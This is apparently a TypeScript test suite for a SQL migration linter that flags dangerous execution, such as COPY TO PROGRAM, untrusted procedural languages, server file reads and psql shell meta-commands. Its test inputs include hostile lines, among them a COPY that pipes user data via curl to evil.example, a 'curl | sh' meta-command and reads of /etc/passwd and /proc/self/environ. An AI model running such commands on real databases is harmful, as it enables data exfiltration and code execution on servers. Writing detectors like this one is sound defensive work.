// Execution rules: copy-program, untrusted-language, dangerous-extension, server-file-access,
// mysql-file-access, psql-meta-command — both parsers, nested statements, positions.
import { describe, expect, it } from 'vitest';
import { check, findings } from './helpers.js';

const EXECUTION_RULES = ['copy-program', 'untrusted-language', 'dangerous-extension', 'server-file-access', 'mysql-file-access', 'psql-meta-command'];

async function executionIds(sql: string, dialect?: 'mysql' | 'mariadb'): Promise<string[]> {
  const r = await check(sql, { dialect });
  return r.findings.filter((f) => EXECUTION_RULES.includes(f.ruleId)).map((f) => f.ruleId);
}

describe('copy-program', () => {
  it('COPY … PROGRAM and COPY to/from server files, with specific messages', async () => {
    expect((await findings("COPY users TO PROGRAM 'curl -d @- https://evil.example';", 'copy-program'))[0].message).toBe(
      "COPY table users TO PROGRAM 'curl -d @- https://evil.example': runs a shell command on the database server.",
    );
    expect((await findings("COPY t FROM '/etc/passwd';", 'copy-program'))[0].message).toBe("COPY table t FROM server file '/etc/passwd': reads a file on the database server.");
    expect((await findings("COPY (SELECT * FROM users) TO '/tmp/u.csv' (FORMAT csv);", 'copy-program'))[0].message).toBe(
      "COPY a query TO server file '/tmp/u.csv': writes a file on the database server.",
    );
  });
  it('COPY FROM STDIN / TO STDOUT stay clean', async () => {
    expect(await executionIds('COPY t (a) FROM stdin;\n1\n\\.\nCOPY t TO STDOUT;')).toEqual([]);
  });
  it('nested: EXECUTE literal in a DO block, with its line', async () => {
    const [f] = await findings("CREATE TABLE t (a text);\nDO $$\nBEGIN\n  EXECUTE 'COPY t FROM PROGRAM ''id''';\nEND $$;", 'copy-program');
    expect(f.message).toContain("PROGRAM 'id'");
    expect(f.message).toContain('inside a DO block');
    expect(f.line).toBe(4);
  });
  it('file_fdw foreign tables with program / filename', async () => {
    expect((await findings("CREATE FOREIGN TABLE f (l text) SERVER files OPTIONS (program 'cat /etc/passwd');", 'copy-program'))[0].message).toContain('runs a shell command');
    expect((await findings("CREATE FOREIGN TABLE f (l text) SERVER files OPTIONS (filename '/etc/passwd');", 'copy-program'))[0].message).toContain("reads server file '/etc/passwd'");
  });
});

describe('untrusted-language', () => {
  it('functions in untrusted languages, C and internal', async () => {
    expect((await findings("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1';", 'untrusted-language'))[0].message).toBe(
      'Function f is written in plpython3u, an untrusted language: it can run any code on the database server as its OS user.',
    );
    for (const lang of ['plperlu', 'pltclu', 'plsh', "'plpython3u'"]) {
      expect(await findings(`CREATE FUNCTION f() RETURNS int LANGUAGE ${lang} AS 'x';`, 'untrusted-language'), lang).toHaveLength(1);
    }
    expect((await findings("CREATE FUNCTION f() RETURNS int AS 'mylib.so', 'f' LANGUAGE C;", 'untrusted-language'))[0].message).toContain("library 'mylib.so', symbol 'f'");
    expect((await findings('CREATE FUNCTION f() RETURNS int AS $$ x $$ LANGUAGE "C";', 'untrusted-language'))).toHaveLength(1);
    expect((await findings("CREATE FUNCTION f() RETURNS int AS 'int4in' LANGUAGE internal;", 'untrusted-language'))[0].message).toContain("internal server function 'int4in'");
  });
  it('CREATE LANGUAGE, CREATE EXTENSION of a language, DO in plpython3u, LOAD', async () => {
    expect((await findings('CREATE LANGUAGE plperlu;', 'untrusted-language'))[0].message).toContain('(CREATE LANGUAGE)');
    expect((await findings('CREATE EXTENSION IF NOT EXISTS plpython3u;', 'untrusted-language'))[0].message).toContain('(CREATE EXTENSION)');
    expect((await findings('CREATE TRUSTED LANGUAGE mylang HANDLER mylang_handler;', 'untrusted-language'))[0].message).toContain('TRUSTED procedural language mylang');
    expect((await findings("DO LANGUAGE plpython3u $$ import os $$;", 'untrusted-language'))[0].message).toContain('DO block in plpython3u');
    expect((await findings("LOAD 'auto_explain';", 'untrusted-language'))[0].message).toBe("LOAD 'auto_explain' loads a shared library into the database server process.");
  });
  it('a language extension is untrusted-language’s, not dangerous-extension’s (no overlap)', async () => {
    expect(await executionIds('CREATE EXTENSION plpython3u;')).toEqual(['untrusted-language']);
  });
  it('nested: untrusted function created inside a DO block', async () => {
    const [f] = await findings("DO $$\nBEGIN\n  EXECUTE 'CREATE FUNCTION s() RETURNS int LANGUAGE plperlu AS ''1''';\nEND $$;", 'untrusted-language');
    expect(f.message).toContain('inside a DO block');
    expect(f.line).toBe(3);
  });
  it('trusted languages stay clean', async () => {
    expect(await executionIds('CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql SECURITY INVOKER AS $$ BEGIN RETURN 1; END $$;')).toEqual([]);
    expect(await executionIds("CREATE FUNCTION f() RETURNS int LANGUAGE plperl AS 'return 1';")).toEqual([]);
    expect(await executionIds("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1';")).toEqual([]);
  });
  it('MySQL UDFs and plugins (node-sql-parser rejects them; read from the text)', async () => {
    const [u] = await findings("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so';", 'untrusted-language', { dialect: 'mysql' });
    expect(u.message).toMatch(/^Likely: Function sys_exec is a native UDF loaded from 'lib_mysqludf_sys.so'/);
    expect(await findings("INSTALL PLUGIN auth_socket SONAME 'auth_socket.so';", 'untrusted-language', { dialect: 'mariadb' })).toHaveLength(1);
  });
});

describe('dangerous-extension', () => {
  it('flags the documented list and every *_fdw; names schema and reason', async () => {
    expect((await findings('CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA extensions;', 'dangerous-extension'))[0].message).toBe(
      'Installs extension dblink in schema extensions: opens connections from the database server to other databases and hosts.',
    );
    for (const e of ['postgres_fdw', 'file_fdw', 'adminpack', 'http', 'pg_net', 'pg_cron', 'pageinspect', 'mysql_fdw', 'aws_lambda']) {
      expect(await findings(`CREATE EXTENSION ${e};`, 'dangerous-extension'), e).toHaveLength(1);
    }
  });
  it('harmless extensions stay clean', async () => {
    expect(await executionIds('CREATE EXTENSION pgcrypto; CREATE EXTENSION IF NOT EXISTS "uuid-ossp"; CREATE EXTENSION citext; CREATE EXTENSION lo; CREATE EXTENSION pg_trgm;')).toEqual([]);
  });
  it('CREATE SERVER, CREATE FOREIGN DATA WRAPPER; user mappings as warnings without their password', async () => {
    expect((await findings("CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.example.com', dbname 'prod');", 'dangerous-extension'))[0].message).toBe(
      "Creates foreign server remote using postgres_fdw (host 'db.example.com', dbname 'prod'): the database can connect out to it.",
    );
    expect(await findings('CREATE FOREIGN DATA WRAPPER w HANDLER h;', 'dangerous-extension')).toHaveLength(1);
    const [m] = await findings("CREATE USER MAPPING FOR bob SERVER remote OPTIONS (user 'x', password 'correct-horse-battery');", 'dangerous-extension');
    expect(m.severity).toBe('warning');
    expect(m.message).toContain('with a stored password');
    const r = await check("CREATE USER MAPPING FOR bob SERVER remote OPTIONS (user 'x', password 'correct-horse-battery');");
    expect(JSON.stringify(r)).not.toContain('correct-horse-battery');
  });
  it('nested CREATE EXTENSION in a DO block', async () => {
    expect((await findings('DO $$ BEGIN CREATE EXTENSION IF NOT EXISTS pg_net; END $$;', 'dangerous-extension'))[0].message).toContain('inside a DO block');
  });
});

describe('server-file-access', () => {
  it('finds calls anywhere, each at its own column', async () => {
    const f = await findings("SELECT 1;\nSELECT pg_read_file('/etc/passwd'), pg_ls_dir('.');", 'server-file-access');
    expect(f.map((x) => [x.line, x.column, x.message])).toEqual([
      [2, 8, "Calls pg_read_file() on '/etc/passwd': reads a file on the database server."],
      [2, 37, "Calls pg_ls_dir() on '.': lists or inspects files on the database server."],
    ]);
  });
  it('PERFORM in DO blocks, function bodies (plpgsql and sql), defaults and INSERT … SELECT', async () => {
    expect((await findings("DO $$ BEGIN PERFORM lo_export(1234, '/tmp/x'); END $$;", 'server-file-access'))[0].message).toBe(
      "Calls lo_export() on '/tmp/x': writes a large object to a file on the database server inside a DO block.",
    );
    expect((await findings("CREATE FUNCTION h() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/x') $$;", 'server-file-access'))[0].message).toContain('inside function h');
    expect(await findings("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/hostname'));", 'server-file-access')).toHaveLength(1);
    expect(await findings("INSERT INTO t SELECT * FROM dblink('dbname=x', 'select a') AS r(a int);", 'server-file-access')).toHaveLength(1);
    expect(await findings("SELECT pg_catalog.pg_file_write('/tmp/x', 'y', false);", 'server-file-access')).toHaveLength(1);
  });
  it('dynamic SQL: quote_literal(path) over a constant is folded and the call reported with the real path', async () => {
    const [f] = await findings("DO $$ DECLARE p text := '/etc/passwd'; BEGIN EXECUTE 'SELECT pg_read_file(' || quote_literal(p) || ')'; END $$;", 'server-file-access');
    expect(f.message).toBe("Calls pg_read_file() on '/etc/passwd': reads a file on the database server inside a DO block.");
    expect(f.gating).toBe(true);
  });
  it('dynamic SQL: an unknown part is rebuilt with its variable name and the call reported as likely', async () => {
    const [f] = await findings("DO $$ DECLARE p text; BEGIN SELECT path INTO p FROM cfg; EXECUTE 'SELECT pg_read_file(' || quote_literal(p) || ')'; END $$;", 'server-file-access');
    expect(f.message).toMatch(/^Likely: Calls pg_read_file\(\)/);
  });
  it('never quotes a connection string (it may contain a password)', async () => {
    const [f] = await findings("DO $$ BEGIN PERFORM dblink_exec('host=evil user=u password=s3cr3tvalue', 'select 1'); END $$;", 'server-file-access');
    expect(f.message).toBe('Calls dblink_exec(): connects from the database server to another database or host inside a DO block.');
  });
  it('pg_net / pgsql-http calls; user functions with the same base name in other schemas stay clean', async () => {
    expect(await findings("SELECT net.http_post(url := 'https://x');", 'server-file-access')).toHaveLength(1);
    expect(await findings("SELECT http_get('https://x');", 'server-file-access')).toHaveLength(1);
    expect(await findings('SELECT app.dblink(); SELECT reporting.pg_read_file(1);', 'server-file-access')).toEqual([]);
  });
  it('names in strings and columns stay clean; unparsed text falls back to the lexical check', async () => {
    expect(await executionIds("SELECT 'pg_read_file(x)'; CREATE TABLE files (read_file boolean, pg_ls_dir text);")).toEqual([]);
    const f = await findings("SELECT pg_read_file('/etc/passwd' FROM;", 'server-file-access');
    expect(f).toHaveLength(1);
    expect(f[0].message).toMatch(/^Likely: /);
  });
});

describe('mysql-file-access', () => {
  it('INTO OUTFILE / DUMPFILE, LOAD DATA [LOCAL] INFILE, LOAD_FILE anywhere', async () => {
    const o = { dialect: 'mysql' as const };
    expect((await findings("SELECT * FROM users INTO OUTFILE '/var/www/u.txt';", 'mysql-file-access', o))[0].message).toBe(
      "SELECT … INTO OUTFILE '/var/www/u.txt' writes a file on the database server.",
    );
    expect((await findings("SELECT a INTO DUMPFILE '/tmp/x' FROM t;", 'mysql-file-access', o))[0].message).toContain('DUMPFILE');
    expect((await findings("LOAD DATA LOCAL INFILE '/tmp/d.csv' INTO TABLE t;", 'mysql-file-access', o))[0].message).toBe(
      "LOAD DATA LOCAL INFILE '/tmp/d.csv' into t reads a file from the machine applying the migration.",
    );
    expect((await findings("LOAD DATA INFILE '/tmp/d.csv' INTO TABLE t;", 'mysql-file-access', o))[0].message).toContain('on the database server');
    expect((await findings("UPDATE t SET body = LOAD_FILE('/etc/passwd') WHERE id = 1;", 'mysql-file-access', o))[0].message).toBe(
      "LOAD_FILE('/etc/passwd') reads a file on the database server.",
    );
    expect(await findings("INSERT INTO t (a) VALUES (LOAD_FILE('/etc/passwd'));", 'mysql-file-access', { dialect: 'mariadb' })).toHaveLength(1);
  });
  it('LOAD XML (unparsed) is read from the text once', async () => {
    const f = await findings("LOAD XML INFILE '/tmp/x.xml' INTO TABLE t;", 'mysql-file-access', { dialect: 'mysql' });
    expect(f).toHaveLength(1);
    expect(f[0].message).toMatch(/^Likely: LOAD XML INFILE '\/tmp\/x.xml'/);
  });
  it('INTO @var and strings mentioning it stay clean', async () => {
    expect(await executionIds('SELECT a INTO @x FROM t;', 'mysql')).toEqual([]);
    expect(await executionIds("INSERT INTO docs (body) VALUES ('use LOAD DATA INFILE or INTO OUTFILE');", 'mysql')).toEqual([]);
  });
});

describe('psql-meta-command', () => {
  it('reports dangerous commands at their line and column, anywhere on a line', async () => {
    const sql = ["\\set ON_ERROR_STOP on", "SELECT 'CREATE DATABASE x' WHERE NOT EXISTS (SELECT 1) \\gexec", '\\i other.sql', "  \\! curl https://x | sh"].join('\n');
    const f = await findings(sql, 'psql-meta-command');
    expect(f.map((x) => [x.line, x.column])).toEqual([
      [2, 56],
      [3, 1],
      [4, 3],
    ]);
    expect(f[0].message).toContain('\\gexec');
    expect(f[1].message).toContain('includes SQL from another file');
    expect(f[2].message).toContain('runs a shell command');
  });
  it('columns are in characters even after multi-byte text (the lexer reports bytes)', async () => {
    const [f] = await findings("SELECT 'héllo wörld' \\gexec\n", 'psql-meta-command');
    expect([f.line, f.column]).toEqual([1, 22]);
  });
  it('file, pipe and backquote variants; \\g without arguments and \\set are fine', async () => {
    const msgs = async (s: string) => (await findings(s, 'psql-meta-command')).map((f) => f.message);
    expect(await msgs('SELECT 1 \\g /tmp/out\n')).toEqual(['psql `\\g /tmp/out` writes output to a file on the machine applying the migration.']);
    expect((await msgs('\\o |mail ops\n'))[0]).toContain('pipes output to a shell command');
    expect((await msgs('\\set x `id`\n'))[0]).toContain('backquoted argument');
    expect((await msgs("\\copy t to program 'gzip > /tmp/t.gz'\n"))[0]).toContain('runs a program');
    expect(await msgs('SELECT 1 \\g\n\\set a 1\n\\echo hi\n\\dt+\n\\if :x\n\\endif\n')).toEqual([]);
  });
  it('client-side \\copy of a file, \\lo_import/\\lo_export and \\connect gate; unknown commands are warnings', async () => {
    const f = await findings("\\copy t from 'data.csv'\n\\c otherdb\n\\zz\n\\lo_import '/etc/passwd'\n\\lo_export 1 '/tmp/x'\n", 'psql-meta-command');
    expect(f.map((x) => [x.severity, x.gating])).toEqual([
      ['error', true],
      ['error', true],
      ['warning', false],
      ['error', true],
      ['error', true],
    ]);
    expect(f[0].message).toBe("psql `\\copy t from 'data.csv'` reads a file from the machine applying the migration into the database.");
    expect(f[1].message).toContain('another user');
    expect(f[2].message).toContain('Unrecognised');
  });
  it('\\copy: the environment and credential files are high risk; stdin/stdout and a query FROM are not files; bare \\c reconnects', async () => {
    const [env] = await findings("CREATE TABLE e (l text);\n\\copy e from '/proc/self/environ'\n", 'psql-meta-command');
    expect(env.message).toContain('/proc/self/environ holds the environment, credentials or system files: high risk');
    const [q] = await findings("\\copy (SELECT * FROM users WHERE a = 'x') TO '/tmp/u.csv' CSV\n", 'psql-meta-command');
    expect(q.message).toContain('writes a file on the machine');
    expect(await findings('\\copy t from stdin\n\\copy (select 1 from t) to stdout\n\\c\n', 'psql-meta-command')).toEqual([]);
  });
  it('a backslash inside a string, E-string, quoted identifier, dollar quote or comment is not a meta-command', async () => {
    const sql = [
      "SELECT '\\i not a command', E'it\\'s \\\\! fine', \"a\\!b\";",
      '-- \\! comment',
      '/* \\i nor here */',
      "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $body$",
      'BEGIN',
      "  RAISE NOTICE '\\i x';",
      '  RETURN $$\\! nope$$;',
      'END $body$;',
    ].join('\n');
    expect(await findings(sql, 'psql-meta-command')).toEqual([]);
  });
  it('is not reported twice by the statement fallback when the text could be scanned', async () => {
    expect(await findings('\\i a.sql\n\\i b.sql\n', 'psql-meta-command')).toHaveLength(2);
  });
  it('falls back to line-start meta-commands when the text cannot be scanned (unterminated quote)', async () => {
    const f = await findings("\\! id\nSELECT 'unterminated;\n", 'psql-meta-command');
    expect(f).toHaveLength(1);
    expect(f[0].message).toContain('runs a shell command');
  });
  it('mysql client commands: system / \\! / source', async () => {
    const f = await findings('system rm -rf /tmp/x\nCREATE TABLE t (id int);\nsource other.sql\n', 'psql-meta-command', { dialect: 'mysql' });
    expect(f.map((x) => x.line)).toEqual([1, 3]);
    expect(f[0].message).toContain('runs a shell command');
    expect(f[1].message).toContain('includes SQL from another file');
  });
});

describe('negative examples stay clean of every execution rule', () => {
  it.each([
    'CREATE TABLE users (id int, password_hash text NOT NULL);',
    "COMMENT ON TABLE t IS 'copy from program; load plpython3u';",
    "INSERT INTO settings (name) VALUES ('password_min_length');",
    'CREATE EXTENSION IF NOT EXISTS pgcrypto;',
    'CREATE EXTENSION IF NOT EXISTS "uuid-ossp";',
    'CREATE EXTENSION citext;',
    'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql SECURITY INVOKER AS $$ BEGIN RETURN 1; END $$;',
  ])('%s', async (sql) => {
    expect(await executionIds(sql)).toEqual([]);
  });
});
